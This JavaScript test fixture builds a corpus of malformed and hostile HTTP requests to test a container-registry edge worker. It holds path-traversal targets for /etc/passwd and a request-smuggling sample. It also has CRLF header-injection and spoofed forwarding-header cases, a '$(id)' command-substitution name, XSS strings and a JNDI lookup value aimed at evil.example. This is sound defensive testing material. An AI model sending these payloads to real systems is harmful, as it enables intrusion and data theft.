// A corpus of malformed and hostile HTTP requests for the running worker,
// as raw bytes (see raw-http.mjs): most cannot be sent by node's http
// client at all. Deterministic: the same corpus on every run.
//
// Each case: {category, name, bytes, runtime?, clientIp?, expectCopy?}
//   runtime     a known answer of the local runtime (workerd / wrangler dev)
//               given before registry-edge runs, which the case may get
//               instead of a 4xx (see RUNTIME_ANSWERS)
//   mayClose    an incomplete request: the server may close without answering
//   expectCopy  'cdn' | 'not-mirror': for forged client addresses, where the
//               blob redirect must (not) point
//
// buildCorpus({digest, absentDigest}) needs a blob digest the copies hold.

import { buildRequest } from './raw-http.mjs';
import { IP } from './personas.mjs';

// Client addresses (the garbage values below also spell them otherwise).
const { awsEuWest3: EU, gcp: GCP, unknown: UNKNOWN, awsV6UsWest2: V6 } = IP;

/**
 * Answers that come from the runtime, not from registry-edge. A case
 * flagged with one of these may get it (or any 4xx); every other 5xx fails.
 */
export const RUNTIME_ANSWERS = {
  // workerd's HTTP server knows a fixed list of methods (case-sensitive);
  // anything else is refused before a worker is involved.
  'unknown-method': { status: 501, body: /^ERROR: Unrecognized request method\.$/, who: "workerd's HTTP server (method not in its list)" },
  // workerd dispatches CONNECT as a `connect` event, which the worker does
  // not export: "Handler does not export a connect() function".
  'connect-event': { status: 500, body: /^Internal Server Error$/, who: 'workerd: CONNECT is a connect event; the worker exports no connect() handler' },
  // `OPTIONS *` (asterisk-form): miniflare's entry worker (wrangler dev
  // only) cannot build a URL from it and throws.
  'asterisk-form': { status: 500, body: /^TypeError: Fetch API cannot load: http:\/\/[^ ]*\*/, who: "wrangler dev's miniflare entry worker (asterisk-form target)" },
  // A second Host header, or one with a space: workerd cannot build the
  // request URL ("TypeError: Invalid URL string") before the worker runs.
  'invalid-host': { status: 500, body: /^Internal Server Error$/, who: 'workerd: no request URL can be built from the Host header(s)' },
};

const B = (s) => Buffer.from(s, 'latin1');

export function buildCorpus({ digest, absentDigest }) {
  const hex = digest.slice('sha256:'.length);
  const cases = [];
  const add = (category, name, req, extra = {}) => {
    const bytes = Buffer.isBuffer(req) ? req : buildRequest(typeof req === 'string' ? { target: req } : req);
    cases.push({ category, name, bytes, ...extra });
  };
  const blob = `/v2/pause/blobs/${digest}`;

  // ---- dot segments, literal and percent-encoded -------------------------
  for (const t of [
    '/v2/../etc/passwd',
    '/../../../../etc/passwd',
    '/v2/pause/../../etc/passwd',
    `/v2/pause/blobs/../../../../${digest}`,
    `/v2/../v2/pause/blobs/${digest}`,
    `/v2/other/../pause/blobs/${digest}`,
    '/v2/pause/manifests/..',
    '/v2/pause/manifests/../../..',
    `/v2/./pause/./blobs/./${digest}`,
    '/v2/%2e%2e/%2e%2e/etc/passwd',
    '/v2/%2E%2E/pause/manifests/x',
    '/v2/pause/%2e%2e%2f%2e%2e%2fetc/manifests/x',
    `/v2/pause/blobs/%2e%2e%2f${digest}`,
    '/v2/pause/manifests/%2e%2e',
    '/v2/pause/manifests/%2E',
    '/v2/.%2e/.%2e/x',
    '/v2/%2e./x/manifests/y',
    '/%2e%2e/%2e%2e/v2/pause/manifests/x',
    '/v2/pause/..%2f..%2fmanifests/x',
    '/v2/pause/..;/manifests/x',
    '/v2/..%00/manifests/x',
    '/v2/pause/manifests/..%5c..%5c',
    '/v2/%252e%252e/%252e%252e/manifests/x',
    '/v2/pause/.../manifests/x',
    '/v2/pause/manifests/....//....//etc',
    '/privacy/..',
    '/privacy/../../v2/pause/tags/list',
    '/./v2/pause/tags/list',
    '/v2/pause/tags/list/..',
    '/v2/pause/tags/..%2flist',
    `/v2/pause/referrers/..%2f..%2f${digest}`,
    `/v2/pause/blobs/${digest}/..`,
  ]) add('dot-segments', t, t);

  // ---- empty segments and scheme-relative paths ---------------------------
  for (const t of [
    '//v2/pause/manifests/x',
    '/v2//pause/manifests/x',
    '/v2/pause//manifests/x',
    `/v2/pause/blobs//${digest}`,
    '///evil.example/v2/',
    '//evil.example/%2e%2e',
    `//evil.example/v2/pause/blobs/${digest}`,
    '/v2///',
    '//',
    '///',
    '/v2/pause/manifests//',
    '//v2//',
    '/v2/pause/tags//list',
    '/v2/a//b/tags/list',
    '/v2/%2f%2fevil.example/manifests/x',
    '/v2/pause%2fmanifests%2fx',
    `/v2/pause/blobs%2f${digest}`,
    '/v2/pause/manifests/%2F%2Fevil.example',
  ]) add('double-slash', t, t);

  // ---- backslashes --------------------------------------------------------
  for (const t of [
    '/v2\\pause\\manifests\\x',
    '\\v2\\',
    '/v2/pause\\..\\..\\manifests/x',
    '/v2/pause/manifests/x\\',
    `/v2/pause\\blobs\\${digest}`,
    '/\\\\evil.example\\v2',
    '/\\evil.example/v2/pause/manifests/x',
    '/v2/%5c%5cevil.example/manifests/x',
    '/v2/pause/manifests/%5c',
    '/v2\\..\\..\\etc\\passwd',
    '\\\\',
    '/v2/pause/tags\\list',
  ]) add('backslash', t, t);

  // ---- overlong paths and headers -----------------------------------------
  const long = (n, c = 'a') => c.repeat(n);
  for (const [name, t] of [
    ['path 2049', `/v2/${long(2049 - '/v2//manifests/x'.length)}/manifests/x`],
    ['path 4 KiB', `/v2/pause/manifests/${long(4096)}`],
    ['path 8 KiB', `/v2/${'a/'.repeat(4096)}manifests/x`],
    ['path 16 KiB', `/v2/pause/blobs/sha256:${long(16384, 'f')}`],
    ['path 64 KiB', `/v2/${long(65536)}/tags/list`],
    ['path 100 KiB', `/v2/${'a/'.repeat(51200)}manifests/x`],
    ['name 256', `/v2/${long(256)}/manifests/latest`],
    ['name component 1000', `/v2/${long(1000)}/tags/list`],
    ['name 255 (limit)', `/v2/${long(255)}/manifests/latest`],
    ['tag 129', `/v2/pause/manifests/${long(129)}`],
    ['tag 10000', `/v2/pause/manifests/${long(10000)}`],
    ['digest hex 10000', `/v2/pause/blobs/sha256:${long(10000, 'a')}`],
    ['1000 segments', `/v2${'/a'.repeat(1000)}/manifests/x`],
  ]) add('overlong', name, t);
  for (const [name, headers, host] of [
    ['header 8 KiB', [['X-Long', long(8192)]]],
    ['header 64 KiB', [['X-Long', long(65536)]]],
    ['header 100 KiB', [['X-Long', long(102400)]]],
    ['header 1 MiB', [['X-Long', long(1 << 20)]]],
    ['CF-Connecting-IP 100 KiB', [['CF-Connecting-IP', long(102400, '1')]]],
    ['User-Agent 64 KiB', [['User-Agent', long(65536)]]],
    ['Accept 64 KiB', [['Accept', `${'application/vnd.oci.image.manifest.v1+json, '.repeat(1500)}*/*`]]],
    ['Cookie 64 KiB', [['Cookie', `a=${long(65536)}`]]],
    ['500 headers', Array.from({ length: 500 }, (_, i) => [`X-H${i}`, 'v'])],
    ['2000 headers', Array.from({ length: 2000 }, (_, i) => [`X-H${i}`, 'v'])],
    ['Host 10 KiB', [], long(10240)],
    ['header name 8 KiB', [[long(8192, 'X'), 'v']]],
  ]) add('overlong', name, { target: blob, headers, host: host ?? '127.0.0.1' });

  // ---- invalid digests and algorithms ------------------------------------
  const badDigests = [
    `sha256:${hex.slice(1)}`,
    `sha256:${hex}0`,
    'sha256:',
    `sha256:${hex}${hex}`,
    `sha256:${hex.toUpperCase()}`,
    `sha256:${'g'.repeat(64)}`,
    `SHA256:${hex}`,
    `Sha256:${hex}`,
    `md5:${hex.slice(0, 32)}`,
    `sha256+b64:${hex}`,
    `sha512:${hex}${hex.slice(1)}`,
    `sha512:${hex}${hex}0`,
    `sha384:${hex}${hex.slice(0, 32)}`,
    `:${hex}`,
    `sha256::${hex}`,
    `sha256:${hex}:${hex}`,
    `sha256:${hex}%00`,
    `sha256%3a${hex}`,
    `sha256%3A${hex}`,
    `sha256:${hex.slice(0, 60)}%61%61%61%61`,
    `sha256:${hex.slice(0, 63)}%0a`,
    `sha256:${hex.slice(0, 63)} `.trim() + '%20',
    `sha256:-${hex.slice(1)}`,
    `sha256:${hex.slice(0, 62)}==`,
    '0',
    `${hex}`,
    `sha256-${hex}`,
  ];
  for (const d of badDigests) add('invalid-digest', `blob ${d.slice(0, 24)}`, `/v2/pause/blobs/${d}`);
  for (const d of badDigests.slice(0, 12)) add('invalid-digest', `manifest ${d.slice(0, 24)}`, `/v2/pause/manifests/${d}`);
  for (const d of badDigests.slice(0, 6)) add('invalid-digest', `referrers ${d.slice(0, 24)}`, `/v2/pause/referrers/${d}`);
  add('invalid-digest', 'valid digest, absent everywhere', `/v2/pause/blobs/${absentDigest}`);
  add('invalid-digest', 'blob with a digest and a trailing slash', `/v2/pause/blobs/${digest}/`);
  add('invalid-digest', 'blob uploads endpoint', '/v2/pause/blobs/uploads/');
  add('invalid-digest', 'blob uploads with digest query', `/v2/pause/blobs/uploads/?digest=${digest}`);

  // ---- uppercase and otherwise invalid names ------------------------------
  for (const n of [
    'Pause', 'PAUSE', 'pAuse/sub', 'pause/Sub', 'pau%20se', '-pause', 'pause-', 'pause.', '.pause', 'pause..x',
    'a___b', '_pause', 'pause/', 'p%C3%A4use', 'pause%00', '%00', 'pause%0a', 'a/'.repeat(130) + 'a', 'pause:tag',
    'pause@sha256', 'pause!', '$(id)', '%60id%60', "'or'1'%3D'1", '%3Cscript%3E', 'con', '~user', '*', 'pause;x',
  ]) add('invalid-name', n.slice(0, 40), `/v2/${n}/manifests/latest`);
  for (const n of ['Pause', 'pause%2F..', 'a/'.repeat(200) + 'b', '_catalog']) add('invalid-name', `blob ${n.slice(0, 20)}`, `/v2/${n}/blobs/${digest}`);
  add('invalid-name', '_catalog', '/v2/_catalog');
  add('invalid-name', '_catalog with n', '/v2/_catalog?n=100000');
  add('invalid-name', 'raw UTF-8 name', B('/v2/p\xc3\xa4use/manifests/latest'));

  // ---- CR, LF and NUL bytes ----------------------------------------------
  const raw = (s) => B(s);
  for (const [name, bytes] of [
    ['CRLF in path', buildRequest({ target: '/v2/pause\r\nX-Injected: 1\r\n/manifests/x' })],
    ['LF in path', buildRequest({ target: '/v2/pause\n/manifests/x' })],
    ['CR in path', buildRequest({ target: '/v2/pause\r/manifests/x' })],
    ['NUL in path', buildRequest({ target: '/v2/pause\0/manifests/x' })],
    ['NUL in method', buildRequest({ method: 'GET\0', target: '/v2/' })],
    ['CRLF in query', buildRequest({ target: '/v2/pause/manifests/x?a=\r\nX-Injected: 1' })],
    ['NUL in query', buildRequest({ target: '/v2/pause/manifests/x?a=\0' })],
    ['request smuggled through the path', raw(`GET /v2/pause/manifests/x HTTP/1.1\r\nHost: a\r\nX-Injected: 1\r\n\r\nGET /v2/_catalog HTTP/1.1\r\nHost: b\r\nConnection: close\r\n\r\n`)],
    ['CRLF in CF-Connecting-IP', buildRequest({ target: blob, headers: [['CF-Connecting-IP', `${EU}\r\nX-Injected: 1`]] })],
    ['NUL in CF-Connecting-IP', buildRequest({ target: blob, headers: [['CF-Connecting-IP', `${EU}\0`]] })],
    ['CR in CF-Connecting-IP', buildRequest({ target: blob, headers: [['CF-Connecting-IP', `${EU}\r`]] })],
    ['NUL in header name', buildRequest({ target: '/v2/', headers: [['X-\0', 'v']] })],
    ['space in header name', buildRequest({ target: '/v2/', headers: [['X Bad', 'v']] })],
    ['obs-fold header', buildRequest({ target: blob, headers: [['CF-Connecting-IP', `${UNKNOWN}\r\n ${EU}`]] })],
    ['bare LF line endings', raw(`GET ${blob} HTTP/1.1\nHost: a\nCF-Connecting-IP: ${EU}\nConnection: close\n\n`)],
    ['encoded CRLF in tag', '/v2/pause/manifests/x%0d%0aSet-Cookie:%20a=b'],
    ['encoded CRLF in query', '/v2/pause/manifests/x?%0d%0aLocation:%20http://evil.example'],
    ['encoded NUL in path', '/v2/pause%00/manifests/x'],
    ['encoded CRLF in name', '/v2/pause%0d%0aX-Injected:%201/tags/list'],
    ['encoded CRLF on the legacy host', { target: '/v2/pause/x%0d%0aX-Injected:%201', host: 'k8s.gcr.io' }],
    ['encoded CRLF in query, legacy host', { target: '/v2/?%0d%0aX-Injected:%201', host: 'k8s.gcr.io' }],
  ]) add('cr-lf-nul', name, bytes);

  // ---- non-UTF-8 bytes ----------------------------------------------------
  for (const [where, bytes] of [
    ['path 0xff', buildRequest({ target: '/v2/p\xffause/manifests/x' })],
    ['path 0xfe 0xff', buildRequest({ target: '/v2/\xfe\xff/tags/list' })],
    ['path overlong slash 0xc0 0xaf', buildRequest({ target: '/v2/pause\xc0\xafmanifests/x' })],
    ['path lone surrogate', buildRequest({ target: '/v2/\xed\xa0\x80/manifests/x' })],
    ['path 0x80', buildRequest({ target: `/v2/pause/blobs/${digest}\x80` })],
    ['tag 0xc0 0xaf', buildRequest({ target: '/v2/pause/manifests/\xc0\xaf' })],
    ['query 0xff 0xfe', buildRequest({ target: '/v2/pause/manifests/x?a=\xff\xfe' })],
    ['CF-Connecting-IP 0xff', buildRequest({ target: blob, headers: [['CF-Connecting-IP', `${EU}\xff`]] })],
    ['CF-Connecting-IP latin1', buildRequest({ target: blob, headers: [['CF-Connecting-IP', '\xb3\xb5.180.1.1']] })],
    ['User-Agent 0xff', buildRequest({ target: blob, headers: [['User-Agent', 'skopeo\xff\xfe']] })],
    ['Accept 0xc0 0xaf', buildRequest({ target: '/v2/pause/manifests/x', headers: [['Accept', 'application/json\xc0\xaf']] })],
    ['Host 0xff', buildRequest({ target: '/v2/pause/manifests/x', host: 'k8s.gcr.io\xff' })],
    ['method 0xff', buildRequest({ method: 'G\xffT', target: '/v2/' })],
    ['encoded %ff in name', '/v2/p%ffause/manifests/x'],
    ['encoded %c0%af in name', '/v2/pause%c0%afx/tags/list'],
    ['encoded surrogate in tag', '/v2/pause/manifests/%ed%a0%80'],
    ['encoded %ff in digest', `/v2/pause/blobs/sha256:${hex.slice(0, 62)}%ff`],
    ['encoded %ff in query', '/v2/pause/tags/list?last=%ff%fe'],
    ['encoded %ff, legacy host', { target: '/v2/p%ffause/manifests/x', host: 'k8s.gcr.io' }],
    ['fullwidth digits in CF-Connecting-IP', buildRequest({ target: blob, headers: [['CF-Connecting-IP', B(Buffer.from('３５.180.1.1', 'utf8').toString('latin1'))]] })],
  ]) add('non-utf8', where, bytes);

  // ---- absurd query strings ----------------------------------------------
  for (const [name, q] of [
    ['empty ?', '?'],
    ['??', '??'],
    ['???', '???'],
    ['&&&', '?&&&'],
    ['=', '?='],
    ['1000 params', `?${'a=1&'.repeat(1000)}`],
    ['2049 chars', `?${'x'.repeat(2049)}`],
    ['10000 chars', `?${'x'.repeat(10000)}`],
    ['100 KiB', `?${'x'.repeat(102400)}`],
    ['lone %', '?%'],
    ['%zz', '?%zz'],
    ['%00', '?%00'],
    ['# fragment', '?#frag'],
    ['a=b#c', '?a=b#c'],
    ['@evil.example', '?@evil.example'],
    ['//evil.example', '?//evil.example'],
    ['http://evil.example', '?http://evil.example/x'],
    ['<script>', '?q=<script>alert(1)</script>'],
    ['quotes', `?q="'\`;`],
    ['brackets', '?a[]=1&a[b]=2&a[][]=3'],
    ['n=-1', '?n=-1&last='],
    ['huge n', '?n=999999999999999999999999'],
    ['{}|^', '?{}|^'],
    ['semicolons', `?${'a=1;'.repeat(300)}`],
  ]) {
    add('absurd-query', `tags ${name}`, `/v2/pause/tags/list${q}`);
    if (['2049 chars', '//evil.example', '@evil.example', '%00', 'a=b#c', '<script>'].includes(name)) {
      add('absurd-query', `blob ${name}`, `${blob}${q}`);
      add('absurd-query', `root ${name}`, `/${q}`);
      add('absurd-query', `legacy ${name}`, { target: `/v2/pause/tags/list${q}`, host: 'k8s.gcr.io' });
    }
  }

  // ---- forged forwarding headers -----------------------------------------
  // None of these is CF-Connecting-IP: the client is unknown, so the blob
  // must go to the default CDN, never to the eu-west-3 mirror.
  for (const [name, headers] of [
    ['X-Forwarded-For eu-west-3', [['X-Forwarded-For', EU]]],
    ['X-Forwarded-For list', [['X-Forwarded-For', `${EU}, ${GCP}, 10.0.0.1`]]],
    ['X-Real-IP', [['X-Real-IP', EU]]],
    ['Forwarded', [['Forwarded', `for=${EU};proto=https`]]],
    ['True-Client-IP', [['True-Client-IP', EU]]],
    ['X-Client-IP', [['X-Client-IP', EU]]],
    ['CF-Connecting-IPv6', [['CF-Connecting-IPv6', V6]]],
    ['cf-connecting-ip with a space before the colon', [['CF-Connecting-IP ', EU]]],
    ['X-Forwarded-Host', [['X-Forwarded-Host', 'evil.example'], ['X-Forwarded-For', EU]]],
    ['X-Original-URL', [['X-Original-URL', '/v2/_catalog'], ['X-Rewrite-URL', '//evil.example/']]],
    ['X-Forwarded-Proto', [['X-Forwarded-Proto', 'gopher'], ['X-Forwarded-Port', '1']]],
  ]) add('spoofed-forwarding', name, { target: blob, headers }, { expectCopy: 'cdn' });
  add('spoofed-forwarding', 'two CF-Connecting-IP headers', { target: blob, headers: [['CF-Connecting-IP', EU], ['CF-Connecting-IP', GCP]] }, { expectCopy: 'not-mirror' });
  add('spoofed-forwarding', 'X-Forwarded-For plus unknown CF-Connecting-IP', { target: blob, headers: [['CF-Connecting-IP', UNKNOWN], ['X-Forwarded-For', EU]] }, { expectCopy: 'cdn' });

  // ---- garbage CF-Connecting-IP ------------------------------------------
  for (const ip of [
    '', ' ', 'not-an-ip', '999.1.1.1', '35.180.1', `${EU}.1`, `${EU}:443`, `[${V6}]`,
    `[${V6}]:443`, `${V6}%eth0`, `::ffff:${EU}`, '035.180.001.001', '0x23.0xb4.1.1',
    `${EU}/24`, '-1', '1e10', '589627649', ` ${EU} `, `${EU}\t`, `${EU},${EU}`, 'null',
    'undefined', 'localhost', '127.0.0.1', '::1', '0.0.0.0', '255.255.255.255', '::', 'fe80::1%25lo', `${EU}' OR '1'='1`,
    '${jndi:ldap://evil.example/a}', '2600:1f01:4874:0:0:0:0:47:1',
  ]) {
    add('garbage-cf-connecting-ip', JSON.stringify(ip), { target: blob, headers: [['CF-Connecting-IP', ip]] }, { clientIp: ip });
  }

  // ---- methods ------------------------------------------------------------
  // Known to workerd: they reach the worker, which answers 405.
  for (const m of ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND', 'PURGE', 'MKCOL', 'LOCK', 'COPY', 'MOVE', 'SEARCH', 'REPORT', 'QUERY']) {
    add('methods', `${m} blob`, { method: m, target: blob });
  }
  for (const m of ['POST', 'DELETE', 'PUT']) add('methods', `${m} /`, { method: m, target: '/' });
  add('methods', 'POST with a body', { method: 'POST', target: '/v2/pause/blobs/uploads/', headers: [['Content-Length', '5']], body: 'hello' });
  add('methods', 'PUT manifest with a body', { method: 'PUT', target: '/v2/pause/manifests/latest', headers: [['Content-Type', 'application/json'], ['Content-Length', '2']], body: '{}' });
  // Unknown to workerd's HTTP server: refused before the worker runs.
  for (const m of ['get', 'Get', 'head', 'FOO', 'BREW', 'M-SEARCH', 'X'.repeat(10000)]) {
    add('methods', `${m.slice(0, 12)} (unknown to workerd)`, { method: m, target: '/v2/pause/manifests/x' }, { runtime: 'unknown-method' });
  }
  add('methods', 'CONNECT authority-form', { method: 'CONNECT', target: 'evil.example:443' }, { runtime: 'connect-event' });
  add('methods', 'CONNECT origin-form', { method: 'CONNECT', target: '/v2/' }, { runtime: 'connect-event' });
  add('methods', 'OPTIONS *', { method: 'OPTIONS', target: '*' }, { runtime: 'asterisk-form' });

  // ---- Host header and request-target forms ------------------------------
  for (const [name, req, runtime] of [
    ['Host evil.example', { target: blob, host: 'evil.example' }],
    ['Host legacy, dot segments', { target: '/v2/../../etc/passwd', host: 'k8s.gcr.io' }],
    ['Host legacy upper case with port', { target: '/v2/pause/manifests/x', host: 'K8S.GCR.IO:443' }],
    ['Host legacy with trailing dot', { target: '/v2/pause/manifests/x', host: 'k8s.gcr.io.' }],
    ['Host k8s.gcr.io@evil.example', { target: '/v2/pause/manifests/x', host: 'k8s.gcr.io@evil.example' }],
    ['Host evil.example:80@k8s.gcr.io', { target: '/v2/pause/manifests/x', host: 'evil.example:80@k8s.gcr.io' }],
    ['Host with a path', { target: '/v2/pause/manifests/x', host: 'k8s.gcr.io/evil' }],
    ['Host empty', { target: '/v2/pause/manifests/x', host: '' }],
    ['no Host', { target: '/v2/pause/manifests/x', host: null }],
    ['two Host headers', { target: '/v2/pause/manifests/x', headers: [['Host', 'evil.example']] }, 'invalid-host'],
    ['two identical Host headers', { target: blob, headers: [['Host', '127.0.0.1']] }, 'invalid-host'],
    ['Host with a space', { target: '/v2/pause/manifests/x', host: 'k8s.gcr.io evil.example' }, 'invalid-host'],
    ['absolute-form evil', { target: `http://evil.example${blob}` }],
    ['absolute-form legacy', { target: 'http://k8s.gcr.io/v2/pause/manifests/x' }],
    ['absolute-form https', { target: 'https://evil.example/v2/pause/manifests/x' }],
    ['absolute-form javascript:', { target: 'javascript:alert(1)' }],
    ['authority-form with GET', { target: 'evil.example:443' }],
    ['empty target', { target: '' }],
    ['HTTP/1.0 without Host', { target: '/v2/pause/manifests/x', version: 'HTTP/1.0', host: null }],
    ['HTTP/9.9', { target: '/v2/', version: 'HTTP/9.9' }],
    ['HTTP/2.0', { target: '/v2/', version: 'HTTP/2.0' }],
    ['no version', { target: '/v2/ ', version: '' }],
    ['Content-Length -1', { target: '/v2/', headers: [['Content-Length', '-1']] }],
    ['Content-Length and Transfer-Encoding', { target: '/v2/', headers: [['Content-Length', '5'], ['Transfer-Encoding', 'chunked']], body: '0\r\n\r\n' }],
    ['Transfer-Encoding: chunked, identity', { target: '/v2/', headers: [['Transfer-Encoding', 'chunked, identity']], body: '0\r\n\r\n' }],
    ['Expect 100-continue on GET', { target: blob, headers: [['Expect', '100-continue'], ['Content-Length', '3']], body: 'abc' }],
    ['Upgrade websocket', { target: '/v2/', headers: [['Upgrade', 'websocket'], ['Connection', 'Upgrade'], ['Sec-WebSocket-Key', 'x3JJHMbDL1EzLkh9GBhXDw=='], ['Sec-WebSocket-Version', '13']] }],
    ['Range on a blob', { target: blob, headers: [['Range', 'bytes=0-0,1-1,2-2'.repeat(100)]] }],
  ]) add('host-and-target', name, req, runtime ? { runtime } : {});
  add('host-and-target', 'TLS ClientHello on the plain port', B('\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03garbage\r\n\r\n'));
  add('host-and-target', 'a lone CRLF', B('\r\n'), { mayClose: true });
  add('host-and-target', 'a lone request line', B('GET /v2/ HTTP/1.1\r\n'), { mayClose: true });
  add('host-and-target', 'headers without the blank line', B(`GET ${blob} HTTP/1.1\r\nHost: a\r\nCF-Connecting-IP: ${EU}\r\n`), { mayClose: true });

  return cases;
}
